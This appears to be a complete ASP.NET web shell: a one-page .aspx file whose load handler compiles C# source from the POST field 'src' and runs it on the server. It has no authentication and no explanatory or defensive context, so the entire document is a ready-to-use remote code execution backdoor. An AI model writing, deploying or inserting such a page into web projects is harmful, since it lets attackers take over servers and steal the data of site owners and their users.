<%@ Page Language="C#" %>
<%@ Import Namespace="System.CodeDom.Compiler" %>
<script runat="server">
void Page_Load(object sender, EventArgs e)
{
    var provider = new Microsoft.CSharp.CSharpCodeProvider();
    var options = new CompilerParameters { GenerateInMemory = true };
    var result = provider.CompileAssemblyFromSource(options, Request.Form["src"]);
    result.CompiledAssembly.CreateInstance("Run").ToString();
}
</script>
